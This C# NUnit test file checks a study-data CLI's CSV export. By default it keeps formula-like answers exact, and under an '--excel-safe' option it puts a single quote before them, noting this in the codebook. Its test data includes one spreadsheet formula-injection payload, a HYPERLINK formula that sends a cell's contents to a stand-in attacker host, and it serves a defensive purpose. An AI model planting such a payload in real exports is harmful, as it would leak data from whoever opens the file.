using NUnit.Framework;
using TestSupport;

namespace Analysis.Tests.CliCommands;

/// <summary>
/// Answers that a spreadsheet would run as formulas: exact in the CSVs by default (R and pandas read what was
/// answered), and with `export --excel-safe` behind a single quote (OWASP's advice), noted in the codebook.
/// </summary>
public sealed class ExcelSafeTests : DatabaseTest
{
    // OWASP's list: = + - @, tab and carriage return at the start of a cell.
    static readonly string[] Formulas =
        ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"];

    async Task SeedAsync()
    {
        await ExportStudy.ImportAsync(DataSource, ExportStudy.Definition());
        for (var i = 0; i < Formulas.Length; i++)
        {
            var id = $"p-{i}";
            await ExportStudy.AddParticipantAsync(DataSource, new ExportStudy.P(id, Cell: 0, Order: 0));
            await ExportStudy.AnswerAsync(DataSource, id, "concern", "attn", Formulas[i], 30);
        }
    }

    async Task<(string Dir, string Out)> ExportAsync(params string[] extra)
    {
        var dir = Directory.CreateTempSubdirectory("ppl-excel-").FullName;
        var (exit, output, error) = await CliRun.RunAsync(["export", "--study", ExportStudy.Id, "--out", dir, "--connection", ConnectionString, .. extra]);
        Assert.That(exit, Is.Zero, error);
        return (dir, output);
    }

    [Test]
    public async Task Export_byDefault_writesFormulaLikeAnswersExactly()
    {
        await SeedAsync();
        var (dir, output) = await ExportAsync();
        try
        {
            var responses = CsvTable.Read(Path.Combine(dir, "responses.csv"));
            var participants = CsvTable.Read(Path.Combine(dir, "participants.csv"));
            var codebook = CsvTable.Read(Path.Combine(dir, "codebook.csv"));
            Assert.Multiple(() =>
            {
                Assert.That(responses.Rows.Select(r => r["value"]), Is.EqualTo(Formulas));
                Assert.That(participants.Rows.Select(r => r["attn"]), Is.EqualTo(Formulas));
                Assert.That(codebook.Rows.Select(r => r["label_en"]), Has.None.Contains("excel-safe"));
                Assert.That(output, Does.Not.Contain("excel-safe"));
            });
        }
        finally { Directory.Delete(dir, true); }
    }

    [Test]
    public async Task Export_excelSafe_putsAQuoteBeforeFormulaLikeCellsAndSaysSoInTheCodebook()
    {
        await SeedAsync();
        var (dir, output) = await ExportAsync("--excel-safe");
        try
        {
            var responses = CsvTable.Read(Path.Combine(dir, "responses.csv"));
            var participants = CsvTable.Read(Path.Combine(dir, "participants.csv"));
            var codebook = CsvTable.Read(Path.Combine(dir, "codebook.csv"));
            var label = (string file, string column) => codebook.Rows.Single(r => r["file"] == file && r["column"] == column);
            var (_, audit, _) = await CliRun.RunAsync("audit", "--study", ExportStudy.Id, "--connection", ConnectionString);
            Assert.Multiple(() =>
            {
                Assert.That(responses.Rows.Select(r => r["value"]), Is.EqualTo(Formulas.Select(f => "'" + f)));
                Assert.That(participants.Rows.Select(r => r["attn"]), Is.EqualTo(Formulas.Select(f => "'" + f)));
                // Everything else as in an exact export: ids, numbers, times.
                Assert.That(participants.Rows.Select(r => r["participant_id"]), Is.EqualTo(Formulas.Select((_, i) => $"p-{i}")));
                Assert.That(participants.Rows[0]["started_at"], Is.EqualTo("2026-11-28T21:04:05Z"));
                Assert.That(label("responses.csv", "value")["label_en"], Does.EndWith("[excel-safe export: a ' was put before text starting with = + - @, tab or CR]"));
                Assert.That(label("responses.csv", "value")["label_nl"], Does.EndWith("[Excel-veilige export: een ' staat voor tekst die begint met = + - @, tab of CR]"));
                Assert.That(label("responses.csv", "answered_at")["label_en"], Does.Not.Contain("excel-safe"), "times cannot be formulas");
                Assert.That(output, Does.Contain("(excel-safe: not exact for R or pandas)"));
                Assert.That(audit, Does.Contain("participants to files (excel-safe)"));
            });
        }
        finally { Directory.Delete(dir, true); }
    }

    [Test]
    public async Task Export_progress_countsTheCodebookRowsItWrote()
    {
        await SeedAsync();
        var (dir, output) = await ExportAsync();
        try
        {
            var rows = File.ReadAllLines(Path.Combine(dir, "codebook.csv")).Length - 1; // no field here spans lines
            Assert.That(rows, Is.GreaterThan(30));
            Assert.That(output, Does.Contain($"codebook.csv: {rows} rows"));
            Assert.That(output, Does.Contain($"responses.csv: {Formulas.Length} rows"));
        }
        finally { Directory.Delete(dir, true); }
    }
}
